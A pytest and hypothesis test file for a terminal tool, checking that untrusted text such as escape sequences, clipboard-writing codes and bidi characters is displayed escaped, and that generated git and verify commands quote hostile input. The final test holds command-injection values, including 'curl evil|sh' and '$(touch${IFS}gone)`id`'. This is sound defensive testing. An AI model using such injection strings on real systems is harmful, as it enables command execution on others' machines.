"""Whatever text comes from outside, the terminal shows it and obeys none of it: plain lines, JSON documents, problems, tables, reports."""

from __future__ import annotations

import io
import string
from collections.abc import Callable, Iterator
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from hostile_kit import APPCAST, EVIL
from hypothesis import given
from hypothesis import strategies as st
from test_hostile_fuzz import MANY, ORDINARY

from nexy_tui.actions.base import ActionResult
from nexy_tui.checklist import CHECKLIST
from nexy_tui.cli import common
from nexy_tui.cli.ending import problem_of
from nexy_tui.core import strict_json
from nexy_tui.core.event import Event, Exposure, OutputLine, PointOfNoReturn, Progress, Waiting
from nexy_tui.core.finding import Evidence, Finding, Status, failed
from nexy_tui.core.matrix import Cell, Matrix
from nexy_tui.core.problem import Problem
from nexy_tui.core.repository import repository_of
from nexy_tui.core.text import last_lines, printable, printable_lines
from nexy_tui.engine.notice import ActionEnded, ActionEvent, ActionStarted, Found, Notice
from nexy_tui.plain import PlainRenderer
from nexy_tui.runlog.show import verify_command
from nexy_tui.services.github_api import ApiResponse
from nexy_tui.services.ratelimit import wait_asked
from nexy_tui.services.remotes import StrayManifest
from nexy_tui.services.update_server import parse_appcast
from screens.text import clean, one_line

hostile = st.one_of(
    st.text(max_size=300),
    st.text(alphabet=st.characters(codec=None, categories=["Cc", "Cf", "Cs", "Zl", "Zp", "Co", "Cn"]), max_size=60),
    st.lists(st.sampled_from([EVIL, "\x1b", "[", "]", "52;c;", "\x9b", "\x07", "\n", "\r", "\ud800", "\udcff", "\u202e", "m", "[/b]"])).map(
        "".join
    ),
)
"""Any text, half surrogate pairs and what a terminal obeys in plenty."""


NOW = datetime(2026, 2, 14, tzinfo=UTC)


@contextmanager
def captured() -> Iterator[tuple[io.StringIO, io.StringIO]]:
    """Standard output and error, as texts."""
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        yield out, err


def harmless(text: str) -> bool:
    """Whether a terminal only shows it, and any encoding writes it."""
    text.encode("utf-8")
    return all(char == "\n" or char.isprintable() for char in text)


def notices(text: str) -> list[Notice]:
    """Every notice, with this text wherever text from outside can stand."""
    verdict = failed(text, text or "x" if (text or "x").strip() else "x", Evidence(text, text, text, text))
    found = [Found(Finding("remotes.code", status, text, text, (text,), verdict.evidence)) for status in Status]
    events: list[Event] = [
        OutputLine(text, ""),
        OutputLine(text, text),
        OutputLine(text, "publish"),
        Waiting(text, 1),
        PointOfNoReturn(text),
        Exposure(0, True),
    ]
    told: list[Notice] = [*found, *(ActionEvent("publish", event) for event in events)]
    told += [ActionEvent("publish", Progress(text, text, 1, total)) for total in (None, 3)]
    ended = [ActionEnded("publish", ActionResult(text), None), ActionEnded("publish", None, Problem(text, text, text))]
    return [*told, ActionStarted("publish"), *ended]


def plainly(text: str) -> None:
    for notice in notices(text):
        stream = io.StringIO()
        PlainRenderer(CHECKLIST, stream)(notice)
        assert harmless(stream.getvalue())


def as_lines(text: str) -> None:
    for shown in (printable(text), printable_lines(text), last_lines(text), clean(text), one_line(text), repr(text)):
        assert harmless(shown)
    assert len(printable(text, 50)) <= 50 and len(one_line(text, 50)) <= 50
    assert "\n" not in printable(text) + one_line(text)
    assert clean(clean(text)) == clean(text)


def as_document(text: str) -> None:
    value = {"text": text, text: [text, {text + "2": text}]}
    with captured() as (out, _):
        common.print_json(value)
    assert set(out.getvalue()) <= set(string.printable) - set("\x0b\x0c\r\t")
    again = strict_json.loads(out.getvalue().encode())
    assert again["text"] == text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")


def as_problem(text: str) -> None:
    with captured() as (out, err):
        common.say(text)
        common.show(text)
        common.tell(problem_of(Problem(text, text, text)))
    assert harmless(out.getvalue()) and harmless(err.getvalue())


def as_table(text: str) -> None:
    cells = {
        "version": Cell.compared(text, text + "x"),
        "url": Cell.said(text, text, False),
        "build": Cell.shown(text),
        "tls": Cell.unseen(text),
    }
    with captured() as (out, _):
        common.show(Matrix({text: cells, "VERSION": cells}).text())
    assert harmless(out.getvalue())


def as_address(text: str) -> None:
    found = repository_of(text)
    assert found is None or (text.isprintable() and all(part.isascii() and part.isprintable() for part in found))


def as_header(text: str) -> None:
    names = ("retry-after", "date", "x-ratelimit-reset", "x-ratelimit-remaining")
    for status in (403, 429):
        for more in ({}, {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "9" * 30}):
            seconds = wait_asked(status, {**dict.fromkeys(names, text), **more}, text, NOW)
            assert seconds is None or seconds >= 0


FACES = (plainly, as_lines, as_document, as_problem, as_table, as_address, as_header)


@pytest.mark.parametrize("face", FACES, ids=lambda face: face.__name__)
def test_any_text_is_shown_and_not_obeyed(face: Callable[[str], None]) -> None:
    for text in (EVIL, "", "\ud83d\ude80 \ud800", "x" * 30_000, "\n" * 50, "Mon, 01 Jan 99999999999 00:00:00 GMT"):
        face(text)
    ORDINARY(given(hostile)(face))()


@pytest.mark.exhaustive
@pytest.mark.parametrize("face", FACES, ids=lambda face: face.__name__)
def test_any_text_exhaustively(face: Callable[[str], None]) -> None:
    met = 0

    def counted(text: str) -> None:
        nonlocal met
        met += 1
        face(text)

    MANY(given(hostile)(counted))()
    print(f"\n{face.__name__}: {met} texts shown, none obeyed")
    assert met >= 1000


def test_markup_is_left_as_text() -> None:
    stream = io.StringIO()
    PlainRenderer(CHECKLIST, stream)(ActionEvent("publish", OutputLine("[/b][link=http://evil]l[/link]", "git")))
    assert stream.getvalue() == "   git: [/b][link=http://evil]l[/link]\n"


def test_what_is_cut_away_says_so_and_what_is_shown_can_be_recognised() -> None:
    assert printable("\x1b]52;c;aGk=\x07\u202e\x9b\ud800") == "\\x1b]52;c;aGk=\\x07\\u202e\\x9b\\ud800"
    assert printable("x" * 300, 10) == "xxxxxxxxx…"


@pytest.mark.parametrize(
    "document", [{"errors": 5}, {"errors": True}, {"errors": "x"}, {"errors": [1, {"code": EVIL}], "message": EVIL}, [], 7, None]
)
def test_what_the_release_host_says_is_shown_whatever_its_form(document: object) -> None:
    answer = ApiResponse(422, {}, document)
    assert harmless(answer.message) and len(answer.message) <= 300
    assert answer.has_error("already_exists") is False


@pytest.mark.parametrize(
    "address",
    [
        "https://github.com/o/r\t",
        "https://github.com/\no/r",
        "https://github.com\r/o/r",
        " https://github.com/o/r",
        "https://github.com/o/r\x0b",
        "https://github.com/o/\u212a",
        "git@github.com:o/r\u2028",
        "git@github.com:o/\u202er",
        "https://github.com/o/%E2%84%AA",
        "\x1b[31mhttps://github.com/o/r",
    ],
)
def test_an_address_with_what_is_not_seen_is_no_repository(address: str) -> None:
    """Python's splitting drops tabs and line breaks, and lower case makes a k of the Kelvin sign; git does neither."""
    assert repository_of(address) is None


def test_a_thousand_different_versions_are_told_in_one_line() -> None:
    elements = b"".join(b"<sparkle:version>1.6.1.%d</sparkle:version>" % n for n in range(1000))
    appcast = parse_appcast(APPCAST.replace(b"<item>", b"<item>" + elements))
    assert len(appcast.conflicts) == 1 and len(appcast.conflicts[0]) < 300 and "and 996 more" in appcast.conflicts[0]


def test_commands_that_are_offered_run_nothing_of_what_others_named() -> None:
    stray = StrayManifest("https://h/o/r;curl evil|sh", "x$(touch${IFS}gone)`id`", "a" * 40, "s", False)
    assert "clone --branch 'x$(touch${IFS}gone)`id`' 'https://h/o/r;curl evil|sh' stray" in stray.revert()
    assert "'HEAD:refs/heads/x$(touch${IFS}gone)`id`'" in stray.revert()
    command = verify_command(Path("/tmp/a b;id/r.intoto.jsonl"), "$(id)", cast(Any, SimpleNamespace(moment=NOW)))
    assert "-I '$(id)' " in command and command.endswith("-s '/tmp/a b;id/r.intoto.jsonl.sig' < '/tmp/a b;id/r.intoto.jsonl'")
